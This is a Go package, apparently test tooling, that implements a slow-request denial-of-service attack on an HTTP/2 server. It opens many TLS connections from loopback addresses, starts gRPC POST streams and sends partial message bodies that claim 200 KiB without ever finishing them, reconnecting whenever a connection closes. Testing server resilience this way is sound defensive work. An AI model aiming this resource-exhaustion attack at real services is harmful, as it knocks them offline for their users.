// Package unfinished attacks a port that speaks HTTP/2, for tests: it leaves requests
// unfinished on many connections.
package unfinished

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	// sources is how many addresses of the loopback network an attack comes from,
	// beginning with 127.0.0.2.
	sources = 8
	// claimed is the length that each message says it has, in bytes.
	claimed = 200 << 10
	// again is how long an attacker waits before it opens another connection.
	again = time.Second
	// firstWindow is how much a connection may send at first (RFC 9113 §6.9.2).
	firstWindow = 65535
	frameSize   = 16 << 10
)

// Attack is requests that are not finished.
type Attack struct {
	Address string
	TLS     *tls.Config // with the protocol h2
	Path    string      // of a method
	// Connections are opened, and again when they are closed. Each has so many
	// Requests, with so many bytes of their messages.
	Connections, Requests, Size int
}

// Run attacks until ctx ends, and returns how many connections it has opened and how
// many bytes of messages it has sent.
func (a Attack) Run(ctx context.Context) (opened, sent int64) {
	var connections, content atomic.Int64
	var attackers sync.WaitGroup
	for i := range a.Connections {
		attackers.Go(func() {
			for ctx.Err() == nil {
				_ = a.connection(ctx, i, &connections, &content) // however it ends
				select {
				case <-time.After(again):
				case <-ctx.Done():
				}
			}
		})
	}
	attackers.Wait()
	return connections.Load(), content.Load()
}

// connection attacks on one connection, until it is closed.
func (a Attack) connection(ctx context.Context, i int, opened, sent *atomic.Int64) error {
	from := &net.TCPAddr{IP: net.IPv4(127, 0, 0, byte(2+i%sources))} //nolint:gosec // It is less than ten.
	dialer := tls.Dialer{NetDialer: &net.Dialer{LocalAddr: from}, Config: a.TLS}
	conn, err := dialer.DialContext(ctx, "tcp", a.Address)
	if err != nil {
		return err
	}
	defer conn.Close()
	defer context.AfterFunc(ctx, func() { conn.Close() })()
	opened.Add(1)
	p := &peer{framer: http2.NewFramer(conn, conn), window: firstWindow}
	p.more = sync.NewCond(&p.mu)
	ended := make(chan error, 1)
	go func() { ended <- p.read() }()
	_, err = conn.Write([]byte(http2.ClientPreface))
	err = errors.Join(err, p.framer.WriteSettings())
	for request := 0; err == nil && request < a.Requests; request++ {
		err = p.begin(uint32(2*request+1), a.Path, a.Size, sent)
	}
	if err != nil {
		conn.Close()
	}
	return errors.Join(err, <-ended)
}

// peer is the attacker's side of a connection.
type peer struct {
	framer *http2.Framer

	mu     sync.Mutex
	more   *sync.Cond
	window int64
	over   bool
}

// read keeps the flow control of the connection, until it ends.
func (p *peer) read() error {
	for {
		frame, err := p.framer.ReadFrame()
		p.mu.Lock()
		if update, ok := frame.(*http2.WindowUpdateFrame); ok && err == nil && update.StreamID == 0 {
			p.window += int64(update.Increment)
		}
		p.over = p.over || err != nil
		p.mu.Unlock()
		p.more.Broadcast()
		if err != nil {
			return err
		}
	}
}

// take waits until n bytes may be sent.
func (p *peer) take(n int) bool {
	p.mu.Lock()
	defer p.mu.Unlock()
	for p.window < int64(n) && !p.over {
		p.more.Wait()
	}
	p.window -= int64(n)
	return !p.over
}

// begin begins a request, with a part of its message.
func (p *peer) begin(stream uint32, path string, size int, sent *atomic.Int64) error {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, f := range [][2]string{
		{":method", "POST"},
		{":scheme", "https"},
		{":path", path},
		{":authority", "victim"},
		{"content-type", "application/grpc"},
		{"te", "trailers"},
	} {
		if err := encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}); err != nil {
			return err
		}
	}
	if err := p.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block.Bytes(), EndHeaders: true}); err != nil {
		return fmt.Errorf("write headers: %w", err)
	}
	message := make([]byte, 5+size)
	binary.BigEndian.PutUint32(message[1:], claimed)
	for len(message) > 0 {
		part := message[:min(len(message), frameSize)]
		message = message[len(part):]
		if !p.take(len(part)) {
			return net.ErrClosed
		}
		if err := p.framer.WriteData(stream, false, part); err != nil {
			return fmt.Errorf("write data: %w", err)
		}
		sent.Add(int64(len(part)))
	}
	return nil
}
